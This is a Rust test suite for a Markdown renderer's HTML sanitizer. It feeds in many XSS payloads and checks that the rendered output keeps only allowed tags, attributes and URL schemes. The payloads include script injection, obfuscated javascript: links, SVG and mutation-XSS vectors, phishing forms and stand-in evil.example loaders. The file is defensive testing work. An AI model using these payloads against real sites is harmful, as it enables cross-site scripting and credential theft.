//! The content-security suite: hostile Markdown and raw HTML, checked two
//! ways. Every case must satisfy [`assert_safe`], an independent restatement
//! of the policy that inspects every tag and attribute of the output (so a
//! new bypass fails here even without an exact expectation), and the
//! classic vectors also have their exact output pinned in [`exact_output`].

use crate::page::{PageError, render_page};

/// Hostile inputs. Each is also tried inside a list, a quote, a table cell,
/// a heading and a footnote, where the Markdown parser is in another state.
const CASES: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<style>body{display:none}</style>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
    "<div style=\"background:url(https://evil.example/?leak)\">x</div>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"evil.swf\"></object>",
    "<embed src=\"evil.swf\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=\"https://evil.example\"><input name=password type=password><button>Log in</button></form>",
    "<input type=text value=\"password?\">",
    "<input onfocus=alert(1) autofocus>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p title=\"</p><script>alert(1)</script>\">x</p>",
    "$x\" onmouseover=\"alert(1)$",
    "$</span><script>alert(1)</script>$",
    "$$</span><img src=x onerror=alert(1)>$$",
    "```rust\" onmouseover=\"alert(1)\n code\n```",
    "```js><script>alert(1)</script>\ncode\n```",
    "`<script>alert(1)</script>`",
    "# Title {#x\" onclick=\"alert(1) .y}",
    "# Title {#javascript:alert(1)}",
    "[^x\"><script>alert(1)</script>]\n\n[^x\"><script>alert(1)</script>]: note",
    "<a href=\"https://ok.example\" target=\"_blank\" rel=\"opener\">x</a>",
    "<div class=\"modal fixed-top math\" id=\"app\">x</div>",
    "<span class=\"math math-inline\" onclick=\"x\">y</span>",
    "<code class=\"language-rust evil\">x</code>",
    "<code class=\"language-x&quot;y\">x</code>",
    "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
    "<a href=\"#app\" name=\"location\">x</a>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#0000058alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<img src=\"x\" name=\"getElementById\" id=\"body\">",
    "<a href=\"//evil.example/\">protocol-relative</a>",
    "<h2 id=\"user-content-forged\" onclick=\"alert(1)\">Forged</h2>",
    "# <img src=x onerror=alert(1)> Heading",
    "[link](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
    "<a href=\"https://ok.example\" ping=\"https://evil.example\">x</a>",
    "<video poster=\"javascript:alert(1)\" src=\"x\"></video><audio src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<frameset onload=alert(1)>",
    "<body onload=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select><option>a</option></select><keygen autofocus onfocus=alert(1)>",
];

/// Tags and attributes the output may contain: the policy of
/// `sanitize.rs`, written out again on purpose, so that widening the policy
/// there fails here until someone decides it here too.
fn allowed_attributes(tag: &str) -> Option<&'static [&'static str]> {
    Some(match tag {
        "a" => &["href", "title", "class", "rel"],
        "abbr" => &["title"],
        "img" => &["src", "alt", "title", "width", "height"],
        "h1" | "h2" | "h3" | "h4" | "h5" | "h6" => &["id"],
        "div" | "sup" => &["id", "class"],
        "span" | "code" => &["class"],
        "ol" => &["start"],
        "details" => &["open"],
        "input" => &["type", "disabled", "checked"],
        "th" | "td" => &["align"],
        "b" | "blockquote" | "br" | "caption" | "dd" | "del" | "dl" | "dt" | "em" | "figcaption" | "figure" | "hr"
        | "i" | "ins" | "kbd" | "li" | "mark" | "p" | "pre" | "s" | "samp" | "strong" | "sub" | "summary" | "table"
        | "tbody" | "tfoot" | "thead" | "tr" | "ul" | "var" => &[],
        _ => return None,
    })
}

/// A minimal reader of serialized HTML: html5ever escapes `<` in text and
/// always double-quotes attribute values, so every `<` opens a tag.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        assert!(!rest.starts_with('!') && !rest.starts_with('?'), "comment, CDATA or declaration in {html}");
        let closing = rest.starts_with('/');
        if closing {
            rest = &rest[1..];
        }
        let name_end = rest.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(rest.len());
        let name = rest[..name_end].to_owned();
        rest = &rest[name_end..];
        let mut attrs = Vec::new();
        loop {
            rest = rest.trim_start();
            if let Some(after) = rest.strip_prefix('>') {
                rest = after;
                break;
            }
            assert!(!closing, "attributes on a closing tag in {html}");
            let attr_end = rest.find(|c: char| c == '=' || c == '>' || c.is_whitespace()).unwrap_or(rest.len());
            assert!(attr_end > 0, "unreadable tag in {html}");
            let attr = rest[..attr_end].to_owned();
            rest = &rest[attr_end..];
            let mut value = String::new();
            if let Some(after) = rest.strip_prefix("=\"") {
                let end = after.find('"').unwrap_or_else(|| panic!("unterminated attribute in {html}"));
                value = after[..end].replace("&quot;", "\"").replace("&nbsp;", "\u{a0}").replace("&amp;", "&");
                rest = &after[end + 1..];
            }
            attrs.push((attr, value));
        }
        if !closing {
            out.push((name, attrs));
        } else {
            assert!(allowed_attributes(&name).is_some(), "closing tag </{name}> in {html}");
        }
    }
    out
}

/// The scheme of a URL as a browser's URL parser sees it (after the
/// serializer's escaping is undone); `None` for a relative URL.
fn scheme(url: &str) -> Option<String> {
    let url = url.trim_matches(|c: char| c <= ' ');
    let colon = url.find(':')?;
    let candidate = &url[..colon];
    let mut chars = candidate.chars();
    let is_scheme = chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    is_scheme.then(|| candidate.to_ascii_lowercase())
}

fn class_ok(tag: &str, class: &str) -> bool {
    match (tag, class) {
        ("span", "math" | "math-inline" | "math-display")
        | ("div", "footnote-definition")
        | ("sup", "footnote-reference" | "footnote-definition-label")
        | ("a", "footnote-backref") => true,
        ("code", c) => c
            .strip_prefix("language-")
            .is_some_and(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_+#.".contains(&b))),
        _ => false,
    }
}

/// Renders `source` and checks every tag and attribute of the result
/// against the policy; returns the HTML.
fn assert_safe(source: &str) -> String {
    let short = |s: &str| s.chars().take(300).collect::<String>();
    let html = render_page(source).unwrap_or_else(|e| panic!("{:?}: {e}", short(source))).html;
    let context = || format!("source {:?}\noutput {:?}", short(source), short(&html));
    for (tag, attrs) in tags(&html) {
        let allowed = allowed_attributes(&tag).unwrap_or_else(|| panic!("tag <{tag}>: {}", context()));
        for (name, value) in &attrs {
            assert!(allowed.contains(&name.as_str()), "attribute {name} on <{tag}>: {}", context());
            match name.as_str() {
                "href" | "src" => {
                    if let Some(s) = scheme(value) {
                        assert!(["http", "https", "mailto"].contains(&s.as_str()), "URL {value:?}: {}", context());
                    }
                }
                "class" => {
                    for c in value.split_ascii_whitespace() {
                        assert!(class_ok(&tag, c), "class {c:?} on <{tag}>: {}", context());
                    }
                }
                "id" => assert!(value.starts_with("user-content-"), "id {value:?}: {}", context()),
                "rel" => assert_eq!(value, "noopener noreferrer nofollow", "{}", context()),
                "type" => assert_eq!(value, "checkbox", "{}", context()),
                "align" => assert!(["left", "center", "right"].contains(&value.as_str()), "{}", context()),
                _ => {}
            }
        }
        let has = |a: &str| attrs.iter().any(|(n, _)| n == a);
        if tag == "a" {
            assert!(has("rel"), "link without rel: {}", context());
        }
        if tag == "input" {
            assert!(has("type") && has("disabled"), "enabled or non-checkbox input: {}", context());
        }
    }
    crate::render_tests::assert_unique_ids(&html);
    html
}

#[test]
fn every_case_satisfies_the_policy_in_every_context() {
    for case in CASES {
        assert_safe(case);
        let one_line = case.replace('\n', " ");
        for wrapped in [
            format!("- {one_line}\n"),
            format!("> {one_line}\n"),
            format!("| a |\n|---|\n| {} |\n", one_line.replace('|', "\\|")),
            format!("## {one_line}\n"),
            format!("x[^n]\n\n[^n]: {one_line}\n"),
            format!("*{one_line}*"),
            format!("[{one_line}](https://ok.example)"),
        ] {
            assert_safe(&wrapped);
        }
    }
    // And all of them at once, in case one case leaves the parser in a state
    // the next can exploit.
    assert_safe(&CASES.join("\n"));
    assert_safe(&CASES.join("\n\n"));
}

/// Exact results of the classic vectors: what is removed, and what is kept.
#[test]
fn exact_output() {
    let rel = r#"rel="noopener noreferrer nofollow""#;
    let dead_link = format!("<p><a {rel}>x</a></p>\n");
    let cases: &[(&str, &str)] = &[
        // Scripts go with their content.
        ("<script>alert(1)</script>", ""),
        ("before <script>alert(1)</script> after", "<p>before  after</p>\n"),
        ("<svg><script>alert(1)</script></svg>", "<p></p>\n"),
        ("<svg onload=alert(1)>", ""),
        // Event handlers go, the element stays.
        ("<img src=x onerror=alert(1)>", r#"<img src="x">"#),
        ("<img src=\"x\" ONERROR=\"alert(1)\">", r#"<img src="x">"#),
        // Dangerous schemes lose the href, in every spelling; the text stays.
        ("[x](javascript:alert(1))", &dead_link),
        ("[x](JaVaScRiPt:alert(1))", &dead_link),
        ("[x]( javascript:alert(1))", &dead_link),
        ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", &dead_link),
        ("<a href=\"java\nscript:alert(1)\">x</a>", &dead_link),
        ("<a href=\"javascript&colon;alert(1)\">x</a>", &dead_link),
        ("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>", &dead_link),
        ("<a href=\"vbscript:msgbox(1)\">x</a>", &dead_link),
        ("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", &dead_link),
        ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", &dead_link),
        // In Markdown link syntax pulldown-cmark percent-encodes the decoded
        // tab, and `jav%09ascript:` is a *relative* URL to every browser (a
        // scheme cannot contain `%`): harmless, so it is kept.
        ("[x](jav&#x09;ascript:alert(1))", &format!("<p><a href=\"jav%09ascript:alert(1)\" {rel}>x</a></p>\n")),
        // CSS: no style elements, no style attributes.
        ("<style>body{display:none}</style>", ""),
        ("<p style=\"position:fixed;top:0;width:100%;height:100%\">overlay</p>", "<p>overlay</p>"),
        // Embedding, forms and document-level elements.
        ("<iframe src=\"https://evil.example\"></iframe>", ""),
        ("<object data=\"evil.swf\"></object>", "<p></p>\n"),
        ("<embed src=\"evil.swf\">", ""),
        ("<math><mi>x</mi></math>", "<p></p>\n"),
        (
            "<form action=\"https://evil.example\"><input name=password type=password><button>Log in</button></form>",
            r#"<input type="checkbox" disabled="">Log in"#,
        ),
        ("<input type=text value=\"password?\">", r#"<input type="checkbox" disabled="">"#),
        ("<base href=\"https://evil.example/\">", ""),
        ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", ""),
        ("<link rel=stylesheet href=\"https://evil.example/x.css\">", ""),
        // Comments and CDATA end up as nothing or as inert text.
        ("<!-- <script>alert(1)</script> -->", ""),
        ("<!--><script>alert(1)</script>-->", "--&gt;"),
        ("<![CDATA[<script>alert(1)</script>]]>", "alert(1)]]&gt;"),
        // Breaking out of attributes from math and code: the TeX and the
        // code are text, the info string yields no class.
        (
            "$x\" onmouseover=\"alert(1)$",
            "<p><span class=\"math math-inline\">\\(x\" onmouseover=\"alert(1)\\)</span></p>\n",
        ),
        (
            "$$</span><img src=x onerror=alert(1)>$$",
            "<p><span class=\"math math-display\">\\[&lt;/span&gt;&lt;img src=x onerror=alert(1)&gt;\\]</span></p>\n",
        ),
        ("```rust\" onmouseover=\"alert(1)\ncode\n```", "<pre><code>code\n</code></pre>\n"),
        ("`<script>alert(1)</script>`", "<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>\n"),
        ("# Title {#x\" onclick=\"alert(1) .y}", "<h1 id=\"user-content-x\">Title</h1>\n"),
        // Classes: only the plugin's own; ids: only generated ones; links
        // lose target and get rel.
        ("<div class=\"modal fixed-top math\" id=\"app\">x</div>", "<div>x</div>"),
        ("<code class=\"language-rust evil\">x</code>", "<p><code class=\"language-rust\">x</code></p>\n"),
        (
            "<a href=\"https://ok.example\" target=\"_blank\" rel=\"opener\">x</a>",
            &format!("<p><a href=\"https://ok.example\" {rel}>x</a></p>\n"),
        ),
        ("<img src=\"x\" name=\"getElementById\" id=\"body\">", r#"<img src="x">"#),
    ];
    for (source, expected) in cases {
        assert_eq!(&assert_safe(source), expected, "source: {source:?}");
    }
}

#[test]
fn toc_and_text_are_plain_text() {
    // The TOC and `text` carry no markup: the raw <img> is not in them, and
    // a consumer must escape them like any other text.
    let page = render_page("# <img src=x onerror=alert(1)> Heading & <b>more</b>\n").unwrap();
    assert_eq!(page.toc[0].text, "Heading & more");
    assert_eq!(page.text, "Heading & more");
    assert_eq!(page.html, "<h1 id=\"user-content-heading--more\"><img src=\"x\"> Heading &amp; <b>more</b></h1>\n");
}

#[test]
fn pathological_nesting_is_a_page_or_a_clear_refusal() {
    // Deep Markdown nesting renders (pulldown-cmark is close to linear)…
    assert_safe(&"> ".repeat(2_000));
    assert_safe(&"*a ".repeat(20_000));
    assert_safe(&"[".repeat(20_000));
    // …deeply nested raw HTML, which would cost the HTML parser seconds, is
    // refused; ordinary raw HTML, including long lists of implicitly closed
    // elements, is not.
    assert_eq!(render_page(&"<div>".repeat(20_000)), Err(PageError::TooDeep { depth: 20_000 }));
    assert_eq!(render_page(&"<span>".repeat(257)), Err(PageError::TooDeep { depth: 257 }));
    assert_safe(&"<span>".repeat(256));
    assert_safe(&format!("<ul>{}</ul>", "<li>item".repeat(5_000)));
    assert_safe(&"<div>x</div>\n".repeat(5_000));
    assert_safe(&"<br><img src=x><hr/><span/>".repeat(1_000));
}
#[test]
fn output_is_deterministic() {
    // ammonia keeps some settings in hash maps with random iteration order;
    // the same source must still give byte-identical HTML every time.
    let source = "- [x] a\n- [ ] b\n\n<input>\n<input type=text checked>\n\n[l](#x) <img src=x alt=y title=z>";
    let first = render_page(source).unwrap().html;
    for _ in 0..50 {
        assert_eq!(render_page(source).unwrap().html, first);
    }
}

#[test]
fn the_serializer_escapes_angle_brackets_in_attributes() {
    // `sanitize::canonical_inputs` relies on this: in the sanitized output
    // every `<` opens a real tag and every `>` closes one.
    assert_eq!(
        render_page("<img alt=\"<input checked x>\" title='a>b'>").unwrap().html,
        "<img alt=\"&lt;input checked x&gt;\" title=\"a&gt;b\">"
    );
}
